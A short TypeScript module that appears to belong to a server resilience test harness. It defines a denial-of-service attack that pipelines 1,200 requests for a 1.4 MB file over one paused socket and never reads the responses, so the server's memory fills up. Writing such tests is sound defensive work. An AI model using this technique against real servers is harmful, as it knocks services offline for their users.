import { type Attack, keepOpen } from '../harness/attack.ts';

const DOWNLOAD = 'GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nhost: localhost\r\n\r\n';

/** Requests a file of 1.4 MB as often as one packet holds, and reads none of the answers. */
const attack: Attack = (target, signal) =>
  keepOpen(target, signal, 1, (socket) => {
    socket.pause();
    socket.write(DOWNLOAD.repeat(1_200));
  });
export default attack;
